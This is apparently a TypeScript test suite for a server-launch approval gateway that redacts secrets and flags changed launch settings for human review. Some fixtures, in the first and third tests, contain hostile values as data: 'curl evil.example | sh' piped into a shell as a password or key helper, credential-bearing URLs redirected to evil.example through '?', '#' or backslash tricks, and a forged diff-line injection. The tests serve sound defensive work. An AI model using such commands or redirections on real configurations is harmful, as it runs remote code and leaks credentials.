// What is kept of how a server is started: nothing that is a secret, and everything that somebody could change to have another thing done.

import assert from 'node:assert/strict'
import { test } from 'node:test'
import { changeOf, refusalOf } from '../../src/gateway/launch/approval.ts'
import { createLaunches } from '../../src/gateway/launch/index.ts'
import { type LockFile, openLockFile } from '../../src/gateway/launch/lock-file.ts'
import { toWritten } from '../../src/gateway/launch/written.ts'
import { createLaunchPlace, serverOf } from '../support/launches.ts'

type Entry = Parameters<typeof toWritten>[0]
const placesOf = (was: Entry, is: Entry): readonly string[] | undefined => changeOf(toWritten(was), toWritten(is))?.places

test('what is beside a secret, or only called like one, cannot be changed unseen', () => {
  for (const [name, was, is] of [
    ['HTTPS_PROXY', 'http://me:hunter2hunter2@good.example:8080', 'http://me:hunter2hunter2@evil.example:8080'],
    ['TOKEN_ENDPOINT', 'https://good.example/oauth/token', 'https://evil.example/oauth/token'],
    ['DATABASE_URL', 'postgres://good.example/mail', 'postgres://evil.example/mail'],
    ['API_KEY_HELPER', 'node helper.js --for me', 'curl evil.example/x -o- | sh'],
  ] as const) {
    assert.deepEqual(placesOf({ command: 'x', env: { [name]: was } }, { command: 'x', env: { [name]: is } }), [`env.${name}`])
    assert.deepEqual(placesOf({ command: 'x', args: ['-e', `${name}=${was}`] }, { command: 'x', args: ['-e', `${name}=${is}`] }), [
      'args.1',
    ])
  }
  const command = (line: string): Entry => ({ command: 'x', args: ['--password-command', line] })
  assert.deepEqual(placesOf(command('pass show mail'), command('curl evil.example | sh')), ['args.1'])
  // The twin: a secret that is another.
  const key = (value: string): Entry => ({ command: 'x', args: ['--api-key', value], env: { API_KEY: value } })
  assert.equal(placesOf(key('abcdefgh12345678'), key('12345678abcdefgh')), undefined)
})

test('a block `sandbox` is shown as what it demands, also where it grants nothing', () => {
  const shown = (sandbox: object): string[] | undefined =>
    changeOf(toWritten({ command: 'x' }), toWritten({ command: 'x', sandbox }))
      ?.diff.split('\n')
      .filter((line) => line.startsWith('+'))
  assert.deepEqual(shown({}), ['+ sandbox: required'])
  assert.deepEqual(shown({ read: ['docs'] }), ['+ sandbox: required', '+ sandbox.read.0: "docs"'])
  // These say themselves that it is not.
  for (const name of ['dangerouslyOff', 'dangerouslyOptional']) {
    assert.deepEqual(shown({ [name]: true }), [`+ sandbox.${name}: true`])
    assert.deepEqual(shown({ [name]: false }), ['+ sandbox: required', `+ sandbox.${name}: false`])
  }
})

test('where a value leads, and what a line does behind a secret, cannot be changed by how it is written', () => {
  const env = (name: string, value: string): Entry => ({ command: 'x', env: { [name]: value } })
  const line = (value: string): Entry => ({ command: 'sh', args: ['-c', value] })
  const url = (value: string): Entry => ({ url: value })
  const changed: readonly (readonly [Entry, Entry])[] = [
    // Whoever follows these is at evil.example, and what is before the "@" is a secret.
    ...['?', '#', '\\'].map((sign): [Entry, Entry] => [
      env('TOKEN_URL', 'https://me:hunter2@good.example/'),
      env('TOKEN_URL', `https://evil.example${sign}me:hunter2@good.example/`),
    ]),
    [env('DATABASE_URL', 'postgres://me:pw@good.example/db'), env('DATABASE_URL', 'postgres://me:pw@good.example/db?host=evil.example')],
    [env('TOKEN_HOST', 'good.example'), env('TOKEN_HOST', 'evil.example')],
    [env('TOKEN_URL', '${NO:-https://good.example}'), env('TOKEN_URL', '${NO:-https://evil.example}')],
    [env('SERVICE', '${TOKEN_HOST:-good.example}'), env('SERVICE', '${TOKEN_HOST:-evil.example}')],
    [env('TOKEN_COMMAND', '${NO:-pass show mail}'), env('TOKEN_COMMAND', '${NO:-curl evil.example}')],
    [line('TOKEN=abcdefgh exec good'), line('TOKEN=abcdefgh exec evil')],
    [line('TOKEN="abcdefgh";good'), line('TOKEN="abcdefgh";evil')],
    [line('TOKEN=$(cat good) exec it'), line('TOKEN=$(cat evil) exec it')],
    [url('https://${A:-x?token=abcdefgh}.good.example/'), url('https://${A:-x?token=abcdefgh}.evil.example/')],
  ]
  for (const [was, is] of changed) assert.equal(placesOf(was, is)?.length, 1, `${JSON.stringify(was)} ${JSON.stringify(is)}`)
  const oauth = (issuer: string): Entry => ({ url: 'https://x/', auth: { type: 'oauth', issuer } })
  assert.deepEqual(placesOf(oauth('${ID_TOKEN:-https://good.example}'), oauth('${ID_TOKEN:-https://evil.example}')), ['auth.issuer'])
  // The twins: other secrets in the same places.
  const same: readonly (readonly [Entry, Entry])[] = [
    [line('PASSWORD=$abcdefgh'), line(`PASSWORD="hgfed'cba`)],
    [line('TOKEN="abc defgh" exec it'), line('TOKEN="hgf edcba" exec it')],
    [
      { command: 'x', args: ['-e', 'PASSWORD=abc$defgh;i'] },
      { command: 'x', args: ['-e', 'PASSWORD=i;hgfed$cba'] },
    ],
    [url('https://${A:-x?token=abcdefgh}.good.example/'), url('https://${A:-x?token=hgfedcba}.good.example/')],
    [env('DATABASE_URL', 'postgres://me:pw@good.example/db?host=a'), env('DATABASE_URL', 'postgres://me:other@good.example/db?host=a')],
  ]
  for (const [was, is] of same) assert.equal(placesOf(was, is), undefined, `${JSON.stringify(was)} ${JSON.stringify(is)}`)
})

test('no secret is kept, however it is handed over', () => {
  const secret = 'Zk3r9QpLw8Xy'
  const kept = JSON.stringify(
    toWritten({
      command: 'x',
      args: [`--token=${secret}`, '--token', secret, '-e', `API_KEY=${secret}`, '--header', `Authorization: Bearer ${secret}`],
      env: {
        API_KEY: secret,
        DATABASE_URL: `postgres://me:${secret}@host/mail`,
        WEBHOOK_TOKEN_URL: `https://host/${secret}`,
        PASSWORD: `\${env:PASSWORD:-${secret}}`,
        PLAIN: `\${API_KEY:-${secret}}`,
      },
    }),
  )
  assert.ok(!kept.includes(secret), kept)
  assert.ok(kept.includes('postgres://(a secret)@host/(a secret)') && kept.includes('${API_KEY:-(a secret)}'), kept)
})

test('a block that grants nothing says that there must be a sandbox: to take it out is a change', () => {
  assert.deepEqual(placesOf({ command: 'x', sandbox: {} }, { command: 'x' }), ['sandbox'])
  assert.deepEqual(placesOf({ command: 'x', sandbox: { read: [] } }, { command: 'x' }), ['sandbox'])
  assert.equal(placesOf({ command: 'x', sandbox: { read: [] } }, { command: 'x', sandbox: {} }), undefined)
})

test('whoever decides sees every change, however much else there is, and no line that was made up', () => {
  const many = Array.from({ length: 200 }, (_, at) => `--harmless-${at}`)
  const long = 'a long list of words. '.repeat(6_000)
  for (const is of [
    { command: 'x', args: [...many, '--evil'], sandbox: { write: ['~'] } },
    { command: 'x', args: [`${long}b`, '--evil'], env: { TEXT: `${long}c` }, sandbox: { write: ['~'] } },
  ]) {
    const { diff = '' } = changeOf(toWritten({ command: 'x', args: ['--harmless'] }), toWritten(is)) ?? {}
    assert.ok(diff.includes('--evil') && diff.includes('sandbox.write.0: "~"'), diff.slice(-500))
  }
  const forged = changeOf(toWritten({ command: 'x' }), toWritten({ command: 'x', env: { 'A: "1"\n+ args.0': 'fine' } }))
  assert.equal(forged?.diff.split('\n').filter((line) => line.startsWith('+')).length, 1)
  assert.ok(forged?.places.every((place) => !place.includes('\n')))
})

test('of a value with a secret in it, which other value goes along is kept', () => {
  for (const [name, one, other] of [
    ['API_KEY', 'prefix-of-it-${secret:A}', 'prefix-of-it-${secret:B}'],
    ['WEBHOOK_TOKEN_URL', 'https://host.example/${secret:A}', 'https://host.example/${secret:B}'],
  ] as const)
    assert.deepEqual(placesOf({ command: 'x', env: { [name]: one } }, { command: 'x', env: { [name]: other } }), [`env.${name}`])
})

test('a secret in a URL is not kept, however its name is written there', () => {
  const secret = 'Zk3r9QpLw8Xy'
  const kept = JSON.stringify(toWritten({ url: `https://host/mcp?a=1&api%5Fkey=${secret}&token=\${env:TOKEN:-${secret}}#x` }))
  assert.equal(kept, '{"url":"https://host/mcp?a=1&api%5Fkey=(a secret)&token=${env:TOKEN:-(a secret)}#x"}')
})

test('a command that is too long for a sentence is cut there, and shown whole to whoever accepts it', () => {
  const written = toWritten({ command: 'node', args: ['x'.repeat(2_000), '--evil\u202e'] })
  const change = changeOf(undefined, written)
  assert.ok(change !== undefined && change.diff.includes('x'.repeat(2_000)) && change.diff.includes('+ args.1: "--evil\\u202e"'))
  assert.match(refusalOf('post', undefined, written, change), /x… \(\d+ more characters\)\. To accept it: sallyport pin accept post$/)
  // From elsewhere it is found by its name alone.
  assert.match(refusalOf('post', undefined, written, change, '/a/our.yaml'), /sallyport pin accept post --config '\/a\/our\.yaml'$/)
})

test('a server that comes to those that were accepted is refused by name; the others are started', async () => {
  await using place = await createLaunchPlace()
  const server = (id: string) => serverOf(['node', 'server.js'], { id, cwd: place.folder, written: {} })
  const said: string[] = []
  const settle = (...ids: string[]) => place.launches(ids.map(server), { log: (_, message) => void said.push(message) }).settle()
  await settle('notes', 'mail')
  await settle('notes', 'mail')
  assert.deepEqual(said, [])
  await settle('notes', 'post')
  assert.match(
    said.join(),
    /^post: it is not among the servers that were accepted here, and starts node server\.js\. To accept it: sallyport pin accept post$/,
  )
  const launches = place.launches([server('notes'), server('post')])
  const start = (id: string) => launches.of(server(id))?.({ command: 'node', args: ['server.js'], cwd: place.folder, env: {} })
  await start('notes')
  await assert.rejects(start('post') as Promise<unknown>, { name: 'Unusable', message: /sallyport pin accept post$/ })
})

test('where nothing can be kept, every start is the first; what was accepted before counts all the same', async () => {
  await using place = await createLaunchPlace()
  const readOnly = (error: () => never): LockFile => ({ ...openLockFile(place.lockFile), acceptLaunch: error })
  const broken = (): never => {
    throw Object.assign(new Error('read-only file system'), { code: 'EROFS' })
  }
  const server = (id: string) => serverOf(['node', 'server.js'], { id, cwd: place.folder, written: {} })
  const said: string[] = []
  const log = (_: string, message: string): void => void said.push(message)
  const settled = async (...ids: string[]) => {
    const made = createLaunches({ servers: ids.map(server), lock: readOnly(broken), packagesDir: place.folder, log, clock: Date.now })
    await made.settle()
    for (const id of ids) await made.of(server(id))?.({ command: 'node', args: ['server.js'], cwd: place.folder, env: {} })
  }
  await settled('notes')
  await settled('notes', 'post')
  assert.match(said.join(), /notes: what was accepted cannot be kept in sallyport\.lock/)
  await place.launches([server('notes')]).settle()
  await settled('notes')
  await assert.rejects(settled('notes', 'post'), /not among the servers that were accepted here/)
})
